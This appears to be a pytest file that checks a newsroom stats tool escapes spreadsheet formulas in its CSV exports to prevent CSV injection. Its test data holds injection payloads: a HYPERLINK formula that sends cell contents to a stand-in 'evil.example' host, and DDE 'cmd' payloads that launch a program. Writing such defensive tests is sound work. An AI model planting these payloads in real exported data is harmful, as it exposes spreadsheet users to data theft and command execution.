"""The stats CSV files never hand a spreadsheet a formula (issue #26; OWASP CSV injection).

A title or an error message starting with `=`, `+`, `-`, `@`, a tab or a carriage return
is written with a `'` first, so the spreadsheet shows it as text.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from ..conftest import VALID_ITEM, VALID_PATH, write
from ..example_accounts import a_network, example_account

TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Quantum sensor")'
FORMULAS = [
    TITLE,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NETWORK = a_network()
ACCOUNT, _ = example_account(NETWORK)


def _reading(account: str, error: str) -> str:
    reading = {
        "v": 1,
        "kind": "post",
        "item": "k7q2m9ab",
        "account": account,
        "network": NETWORK,
        "post_id": "1234",
        "at": "2026-11-21T10:00:00Z",
        "status": "unreachable",
        "counts": {},
        "error": error,
    }
    return json.dumps(reading) + "\n"


def _rows(report: Path, name: str) -> list[list[str]]:
    with (report / name).open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_text_a_spreadsheet_would_run_starts_with_a_quote(newsroom: Path, run) -> None:
    item = VALID_ITEM.replace(
        'title: "Quantum sensor maps brain activity"', f"title: {json.dumps(TITLE)}", 1
    )
    write(newsroom, VALID_PATH, item)
    readings = [_reading(f"{ACCOUNT}-{n}", formula) for n, formula in enumerate(FORMULAS)]
    write(newsroom, "stats/snapshots/2026-11.jsonl", "".join(readings))

    result = run(newsroom, "stats", "--report-only")
    assert result.exit_code == 0, result.output

    report = newsroom / "output/stats"
    head, *posts = _rows(report, "stats.csv")
    assert {post[head.index("title")] for post in posts} == {"'" + TITLE}
    head, *readings = _rows(report, "snapshots.csv")
    assert [row[head.index("error")] for row in readings] == ["'" + f for f in FORMULAS]
    for name in ("stats.csv", "snapshots.csv", "returns.csv"):
        for row in _rows(report, name):
            assert len(row) == len(head if name == "snapshots.csv" else row)
            assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], (name, row)


def test_plain_text_and_numbers_are_written_as_they_are(newsroom: Path, run) -> None:
    write(newsroom, "stats/snapshots/2026-11.jsonl", _reading(ACCOUNT, "timed out"))

    assert run(newsroom, "stats", "--report-only").exit_code == 0

    head, post = _rows(newsroom / "output/stats", "stats.csv")
    assert post[head.index("title")] == "Quantum sensor maps brain activity"
    assert (post[head.index("post_id")], post[head.index("account")]) == ("1234", ACCOUNT)
